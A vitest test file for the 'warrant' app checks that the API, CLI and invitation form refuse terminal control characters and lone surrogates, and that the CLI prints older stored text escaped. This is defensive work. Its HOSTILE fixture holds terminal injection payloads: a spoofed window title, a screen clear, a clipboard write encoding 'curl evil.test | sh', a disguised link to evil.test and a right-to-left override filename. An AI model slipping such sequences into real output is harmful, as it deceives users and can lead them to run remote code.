import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { type Api, createApi } from '../src/api/app.js';
import { main } from '../src/cli/main.js';
import { loadDemo } from '../src/demo/load-demo.js';
import { findUnwritableText } from '../src/domain/text.js';
import { createContext } from '../src/services/context.js';
import { designDocumentState, designScope, respondToMemberCheck, sendMemberCheck } from '../src/services/design-documents.js';
import { addFinding, editFinding } from '../src/services/findings.js';
import { resolvePartnership } from '../src/services/partnerships.js';
import type { DatabaseTarget } from '../src/storage/database.js';
import { type ApiClient, signedIn } from './support/api-client.js';
import { DIALECTS, openTestDatabase, type TestDatabase } from './support/databases.js';

const LAKESIDE = 'Lakeside Public Schools';
const ESC = '\u001b';
const BEL = '\u0007';

/** What a partner leader wrote in the review: a window title, a cleared screen, the clipboard, a disguised link, CSI as one C1 byte, a right-to-left override. */
const HOSTILE =
  `Looks right${ESC}]0;warrant: all checks passed${BEL}${ESC}[2J` +
  `${ESC}]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==${BEL}` +
  `${ESC}]8;;https://evil.test/${ESC}\\the district page${ESC}]8;;${ESC}\\` +
  `\u009b31m \u202Efdp.exe`;

/** The control characters and overrides a terminal acts on; none may reach standard output as they are. */
const RAW = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/;

const dbArgs = (target: DatabaseTarget) => ['--db', target.dialect === 'sqlite' ? target.path : target.url];

/** `warrant …` in this process: an argument may then hold a lone surrogate, as a Windows command line can. */
async function warrantHere(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  const out: string[] = [];
  const err: string[] = [];
  const stdout = vi.spyOn(process.stdout, 'write').mockImplementation((chunk: string | Uint8Array) => out.push(String(chunk)) > 0);
  const stderr = vi.spyOn(process.stderr, 'write').mockImplementation((chunk: string | Uint8Array) => err.push(String(chunk)) > 0);
  const before = process.exitCode;
  process.exitCode = 0;
  try {
    await main(['node', 'warrant', ...args]);
    return { code: Number(process.exitCode ?? 0), stdout: out.join(''), stderr: err.join('') };
  } finally {
    stdout.mockRestore();
    stderr.mockRestore();
    process.exitCode = before;
  }
}

describe.each(DIALECTS)('text that may not be stored, refused at every boundary (%s)', (dialect) => {
  let t: TestDatabase;
  let api: Api;
  let pid: string;
  let lead: ApiClient;
  let partner: ApiClient;
  let checkId: string;
  let section: string;

  beforeAll(async () => {
    t = await openTestDatabase(dialect);
    await loadDemo(t.ctx);
    pid = (await resolvePartnership(t.ctx)).id;
    api = createApi({ store: t.store, demoMode: true });
    lead = await signedIn(api, 'lead@demo.warrant.test', 'demo-lead-password');
    partner = await signedIn(api, 'partner@demo.warrant.test', 'demo-partner-password');
    const lakeside = (await lead.get(`/api/districts/${(await t.store.organizations.resolve(pid, 'district', LAKESIDE))[0]!.id}/design-document`)).body;
    const version = lakeside.versions.at(-1);
    section = version.sections[0].key;
    checkId = (await lead.send('POST', `/api/ddd-versions/${version.id}/member-checks`, { recipients: ['partner@demo.warrant.test'] })).body.id;
  });
  afterAll(() => t?.close());

  const responses = async (): Promise<{ text: string }[]> => (await partner.get(`/api/member-checks/${checkId}`)).body.check.responses;

  it('refuses a member-check response holding terminal control sequences, naming the field, and changes nothing', async () => {
    const auditBefore = await t.store.audit.count();
    const refused = await partner.send('POST', `/api/member-checks/${checkId}/responses`, { section, response: 'comment', text: HOSTILE });
    expect(refused.status).toBe(400);
    expect(refused.body.error.message).toBe('text: contains a control character (U+001B) at character 12; only tabs and line breaks are kept, remove it');
    expect(refused.body.error.details).toMatchObject({ field: 'text' });
    for (const [text, code] of [
      ['a C1 \u009b2J', 'U+009B'],
      ['DEL\u007f', 'U+007F'],
      ['form\ffeed', 'U+000C'],
      ['NUL\u0000', 'U+0000'],
    ]) {
      const answer = await partner.send('POST', `/api/member-checks/${checkId}/responses`, { section, response: 'comment', text });
      expect(answer.status).toBe(400);
      expect(answer.body.error.message).toContain(`text: contains a control character (${code})`);
    }
    expect(await responses()).toEqual([]);
    expect(await t.store.audit.count()).toBe(auditBefore);

    const kept = await partner.send('POST', `/api/member-checks/${checkId}/responses`, {
      section,
      response: 'comment',
      text: 'Tabs\tand\r\nline breaks stay.',
    });
    expect(kept.status).toBe(201);
    expect((await responses()).map((r) => r.text)).toEqual(['Tabs\tand\r\nline breaks stay.']);
  });

  it('refuses a lone surrogate in a body, a nested field and a query parameter, naming each', async () => {
    const findingsBefore = (await t.store.findings.list(pid, {})).length;
    const body = await lead.send('POST', `/api/partnerships/${pid}/findings`, { district: LAKESIDE, cycle: '2010-11', text: 'Principals \ud800 observe.' });
    expect(body.status).toBe(400);
    expect(body.body.error.message).toBe(
      'text: contains half of a surrogate pair (U+D800) at character 12, which is not a character: the text is not valid Unicode',
    );
    const nested = await lead.send('POST', `/api/partnerships/${pid}/findings`, {
      district: LAKESIDE,
      cycle: '2010-11',
      text: 'Fine.',
      cite: [{ claimId: 'clm_\udc00' }],
    });
    expect(nested.status).toBe(400);
    expect(nested.body.error.message).toMatch(/^cite\.0\.claimId: contains half of a surrogate pair \(U\+DC00\)/);
    const query = await lead.get(`/api/partnerships/${pid}/search?q=${encodeURIComponent('walk')}&district=${encodeURIComponent('Lake\u001bside')}`);
    expect(query.status).toBe(400);
    expect(query.body.error.message).toMatch(/^district: contains a control character \(U\+001B\)/);
    expect((await t.store.findings.list(pid, {})).length).toBe(findingsBefore);
  });

  it('refuses a lone surrogate or a control character in a command-line argument or option, naming it, and stores nothing', async () => {
    const db = dbArgs(t.target);
    const findingsBefore = (await t.store.findings.list(pid, {})).length;
    const auditBefore = await t.store.audit.count();
    const argument = await warrantHere(['finding', 'add', 'Principals \ud800 observe.', '--district', LAKESIDE, ...db]);
    expect(argument.code).toBe(2);
    expect(argument.stderr).toMatch(/^warrant: <text>: contains half of a surrogate pair \(U\+D800\) at character 12/);
    const option = await warrantHere(['finding', 'add', 'Principals observe.', '--district', `${LAKESIDE}\udfff`, ...db]);
    expect(option.code).toBe(2);
    expect(option.stderr).toMatch(/^warrant: --district: contains half of a surrogate pair \(U\+DFFF\)/);
    const global = await warrantHere(['finding', 'add', 'Principals observe.', '--district', LAKESIDE, '--as', `Ana${ESC}]0;x${BEL}`, ...db]);
    expect(global.code).toBe(2);
    expect(global.stderr).toMatch(/^warrant: --as: contains a control character \(U\+001B\) at character 4/);
    const finding = (await t.store.findings.list(pid, {}))[0]!;
    const reason = await warrantHere([
      'finding',
      'edit',
      finding.id,
      'Edited.',
      '--expected-version',
      String(finding.version),
      '--reason',
      `why${ESC}[2J`,
      ...db,
    ]);
    expect(reason.code).toBe(2);
    expect(reason.stderr).toMatch(/^warrant: --reason: contains a control character \(U\+001B\)/);

    expect((await t.store.findings.list(pid, {})).length).toBe(findingsBefore);
    expect((await t.store.findings.byId(finding.id))!.version).toBe(finding.version);
    expect(await t.store.audit.count()).toBe(auditBefore);
    const added = await warrantHere(['finding', 'add', 'Principals observe 🧮 weekly.', '--district', LAKESIDE, ...db, '--json']);
    expect(added.code).toBe(0);
    expect(JSON.parse(added.stdout).finding.text).toBe('Principals observe 🧮 weekly.');
  });

  it('has stored no invalid text: every finding and member-check response reads back as valid Unicode, with no control character', async () => {
    const findings = await t.store.findings.list(pid, {});
    for (const f of findings) expect(findUnwritableText(f.text), f.id).toBeUndefined();
    expect(findings.some((f) => f.text.includes('\ufffd'))).toBe(false);
    for (const r of await responses()) expect(findUnwritableText(r.text)).toBeUndefined();
  });

  it('refuses a control character in the form behind an invitation link, and creates no account', async () => {
    const invitation = await lead.send('POST', `/api/partnerships/${pid}/invitations`, { email: 'new.coach@lakeside.example', role: 'observer' });
    expect(invitation.status).toBe(201);
    const token = new URL(invitation.body.url).searchParams.get('token')!;
    const res = await api.request('/invitation', {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ token, displayName: `New coach${ESC}]0;x${BEL}`, password: 'a long enough password' }).toString(),
    });
    const page = await res.text();
    expect(res.status).toBe(400);
    expect(page).toContain('Your name: contains a control character (U+001B) at character 10');
    expect(await t.store.accounts.byEmail('new.coach@lakeside.example')).toBeUndefined();
  });
});

describe('what the command line prints of text stored before the rule', () => {
  const BIN = join(import.meta.dirname, '..', 'bin', 'warrant.js');
  let t: TestDatabase;
  let findingId: string;
  const warrant = (args: string[]) => {
    const r = spawnSync(process.execPath, [BIN, ...args, ...dbArgs(t.target)], {
      encoding: 'utf8',
      env: { ...process.env, NO_COLOR: '1', WARRANT_DATABASE_URL: '' },
    });
    return { code: r.status, stdout: r.stdout, stderr: r.stderr };
  };

  beforeAll(async () => {
    t = await openTestDatabase('sqlite');
    await loadDemo(t.ctx);
    const pid = (await resolvePartnership(t.ctx)).id;
    // Written through the services, as the API and the CLI wrote it before they refused such text.
    const scope = await designScope(t.ctx, pid, LAKESIDE);
    const version = (await designDocumentState(t.ctx, scope)).versions.at(-1)!;
    const partner = (await t.store.accounts.byEmail('partner@demo.warrant.test'))!;
    const check = await sendMemberCheck(t.ctx, { versionId: version.id, recipients: [partner.email] });
    const section = JSON.parse(version.content).sections[0].key as string;
    await respondToMemberCheck(t.ctx, { checkId: check.check.id, accountId: partner.id, section, response: 'comment', text: HOSTILE });
    const hostileActor = createContext(t.store, `Ana${ESC}]0;owned${BEL}`);
    const finding = await addFinding(hostileActor, { partnershipId: pid, district: LAKESIDE, cycle: '2010-11', text: `Principals observe.${HOSTILE}` });
    findingId = finding.finding.id;
    await editFinding(hostileActor, { findingId, text: `Principals observe weekly.${HOSTILE}`, expectedVersion: 1, reason: HOSTILE });
  });
  afterAll(() => t?.close());

  const expectShownNotRun = (stdout: string) => {
    expect(stdout).not.toMatch(RAW);
    expect(stdout).toContain('\\x1b]0;warrant: all checks passed\\x07\\x1b[2J');
    expect(stdout).toContain('\\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\\x07');
    expect(stdout).toContain('\\x1b]8;;https://evil.test/\\x1b\\the district page\\x1b]8;;\\x1b\\');
    expect(stdout).toContain('\\x9b31m \\u202efdp.exe');
  };

  it('warrant ddd status shows the escape sequences of a member-check response instead of running them', () => {
    const r = warrant(['ddd', 'status', '--district', LAKESIDE]);
    expect(r.code).toBe(0);
    expectShownNotRun(r.stdout);
    expect(r.stdout).toMatch(/Lakeside partner leader · .+ · comment Looks right\\x1b\]0;/);
  });

  it('warrant finding show and warrant history show them too, in the text, the actor and the reason', () => {
    const shown = warrant(['finding', 'show', findingId]);
    expect(shown.code).toBe(0);
    expectShownNotRun(shown.stdout);
    expect(shown.stdout).toContain(`${findingId} v2 Principals observe weekly.Looks right\\x1b]0;`);
    const history = warrant(['history', findingId]);
    expect(history.code).toBe(0);
    expectShownNotRun(history.stdout);
    expect(history.stdout).toContain('Ana\\x1b]0;owned\\x07  finding.update v2');
    expect(history.stdout).toContain('why: Looks right\\x1b]0;');
  });

  it('--json keeps the exact text, every control character and override escaped as JSON allows', () => {
    const outputs = [
      ['ddd', 'status', '--district', LAKESIDE, '--json'],
      ['history', findingId, '--json'],
      ['finding', 'show', findingId, '--json'],
    ].map((args) => {
      const r = warrant(args);
      expect(r.code, args.join(' ')).toBe(0);
      expect(r.stdout, args.join(' ')).not.toMatch(RAW);
      expect(r.stdout, args.join(' ')).toContain('\\u001b]0;warrant: all checks passed\\u0007');
      expect(r.stdout, args.join(' ')).toContain('\\u009b31m \\u202efdp.exe');
      return JSON.parse(r.stdout);
    });
    const [status, history, finding] = outputs as [unknown, { reason: string | null }[], { finding: { text: string } }];
    expect(JSON.stringify(status)).toContain(JSON.stringify(HOSTILE).slice(1, -1));
    expect(history.map((e) => e.reason)).toContain(HOSTILE);
    expect(finding.finding.text).toBe(`Principals observe weekly.${HOSTILE}`);
  });
});
